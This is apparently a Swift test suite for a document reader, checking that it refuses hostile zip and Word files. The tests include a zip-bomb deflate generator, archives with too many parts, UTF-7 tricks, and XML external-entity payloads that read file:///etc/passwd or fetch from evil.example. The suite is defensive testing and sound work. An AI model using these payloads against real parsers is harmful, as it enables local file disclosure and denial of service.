import Foundation
import Testing

@testable import Documents

/// Files that were made to do harm cost little and are named as what they are.
@Suite struct HostileTests {
    private static let local: [UInt8] = [0x50, 0x4B, 3, 4]
    private static let central: [UInt8] = [0x50, 0x4B, 1, 2]

    private func fault(_ bytes: [UInt8]) -> DocumentFault? {
        do {
            _ = try DocumentText.word(bytes)
            return nil
        } catch { return error }
    }

    /// An archive whose one part is the given deflated bytes, said to unpack to `size`.
    private static func deflated(_ packed: [UInt8], size: UInt32, crc: UInt32 = 0) -> [UInt8] {
        var archive = ZipWriter()
        archive.add("word/document.xml", packed)
        var bytes = archive.archive
        bytes.put(8, 10, after: central)
        bytes.put(crc, 16, after: central)
        bytes.put(UInt32(packed.count), 20, after: central)
        bytes.put(size, 24, after: central)
        return bytes
    }

    /// A deflate stream of so many equal bytes, packed about a thousand times (RFC 1951 §3.2.6).
    private static func packedZeros(_ count: Int) -> [UInt8] {
        // Fixed codes: the literal 0 (8 bits 00110000), then matches of 258 bytes at distance 1.
        var bits: [UInt8] = [1, 1, 0] + [0, 0, 1, 1, 0, 0, 0, 0]
        for _ in 0..<((count - 1) / 258) { bits += [1, 1, 0, 0, 0, 1, 0, 1] + [0, 0, 0, 0, 0] }
        bits += [0, 0, 0, 0, 0, 0, 0]
        return stride(from: 0, to: bits.count, by: 8).map { start in
            (0..<8).reduce(UInt8(0)) { byte, bit in
                byte | (start + bit < bits.count ? bits[start + bit] << bit : 0)
            }
        }
    }

    @Test func aBombIsRefusedBeforeItIsUnpacked() {
        let packed = Self.packedZeros(4 << 20)
        #expect(packed.count < 40_000)
        guard case .tooLarge? = fault(Self.deflated(packed, size: UInt32((packed.count * 800)))) else {
            Issue.record("a part packed 800 times is read")
            return
        }
        guard case .tooLarge? = fault(Self.deflated(packed, size: 200 << 20)) else {
            Issue.record("a part of 200 MB is read")
            return
        }
        // One that lies about its size unpacks to no more than it says.
        #expect(
            fault(Self.deflated(packed, size: 60_000)) == .broken("a part does not unpack to what it says"))
    }

    @Test func aBombOfManyPartsStopsAtTheirSum() throws {
        var archive = ZipWriter()
        let part = [UInt8](repeating: 0x20, count: 3 << 20)
        for number in 0..<2 { archive.add("part\(number)", part) }
        var limits = ZipLimits()
        limits.total = 5 << 20
        var reader = try ZipReader(archive.archive, limits: limits)
        #expect(try reader.content(of: "part0")?.count == part.count)
        #expect(throws: DocumentFault.self) { try reader.content(of: "part1") }
    }

    @Test func archivesOfThousandsOfPartsAreRefused() {
        var archive = ZipWriter()
        for number in 0..<600 { archive.add("\(number)", []) }
        guard case .tooLarge? = fault(archive.archive) else {
            Issue.record("600 parts are read")
            return
        }
    }

    @Test(arguments: [
        "<!DOCTYPE a [<!ENTITY b \"c\">]>", "<!DOCTYPE a SYSTEM \"file:///etc/passwd\">",
        "<!DOCTYPE a [<!ENTITY % b SYSTEM \"http://evil.example/x\"> %b;]>",
    ])
    func entitiesAndDocumentTypesAreRefused(type: String) {
        let bytes = Samples.word(Samples.paragraph("&b;"), head: xmlHead + type)
        #expect(fault(bytes) == .refused("entities of its own"))
    }

    @Test func otherCharsetsThatCouldHideThemAreRefused() {
        let utf7 = Samples.word("", head: "<?xml version=\"1.0\" encoding=\"UTF-7\"?>")
        #expect(fault(utf7) == .refused("another charset than UTF-8"))
        var archive = ZipWriter()
        archive.add("word/document.xml", [0xFF, 0xFE] + Array("<\0a\0/\0>\0".utf8))
        #expect(fault(archive.archive) == .refused("another charset than UTF-8"))
    }

    @Test func endlessNestingAndElementsAreBounded() {
        let deep = String(repeating: "<w:x>", count: 5_000) + String(repeating: "</w:x>", count: 5_000)
        guard case .tooLarge? = fault(Samples.word(deep)) else {
            Issue.record("5000 levels are read")
            return
        }
        let many = String(repeating: "<w:b/>", count: 250_000)
        guard case .tooLarge? = fault(Samples.word(many)) else {
            Issue.record("250000 elements are read")
            return
        }
    }

    @Test func passwordsAndForeignMethodsAreNamed() {
        var locked = Samples.word("")
        locked.put(0x0009_0014, 6, after: Self.central)
        #expect(fault(locked) == .refused("a password"))
        var foreign = Samples.word("")
        foreign.put(12, 10, after: Self.central)
        #expect(fault(foreign) == .refused("parts packed in another way"))
    }

    @Test func aDamagedPartIsNoText() {
        var bytes = Samples.word(Samples.paragraph("少了两桶油"))
        let at = bytes.firstIndex(of: UInt8(ascii: "<")) ?? 0
        bytes[at + 100] ^= 1
        #expect(fault(bytes) == .broken("a part is damaged"))
    }

    /// Whatever is cut off or turned over gives a fault or a text, and never a crash.
    @Test(arguments: 0..<60 as Range<UInt64>)
    func brokenFilesAreReadOrRefused(seed: UInt64) {
        var state = seed &* 0x9E37_79B9_7F4A_7C15 | 1
        func next(_ bound: Int) -> Int {
            state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
            return Int(state >> 33) % max(1, bound)
        }
        var bytes =
            seed % 2 == 0 ? Samples.word(Samples.paragraph("字")) : Samples.sheet("<row><c><v>1</v></c></row>")
        for _ in 0..<(1 + next(12)) { bytes[next(bytes.count)] = UInt8(next(256)) }
        if seed % 3 == 0 { bytes.removeLast(next(bytes.count)) }
        let text = try? DocumentText.word(bytes)
        let sheets = try? DocumentText.sheets(bytes)
        #expect((text?.rows.count ?? 0) <= 4_000 && (sheets?.count ?? 0) <= 20)
    }

    @Test(
        arguments: [[], [0x50, 0x4B], Array("PK\u{5}\u{6}".utf8) + [UInt8](repeating: 0xFF, count: 18)]
            as [[UInt8]])
    func whatIsNoArchiveIsBroken(bytes: [UInt8]) {
        guard case .broken? = fault(bytes) else {
            Issue.record("\(bytes) is read")
            return
        }
    }
}
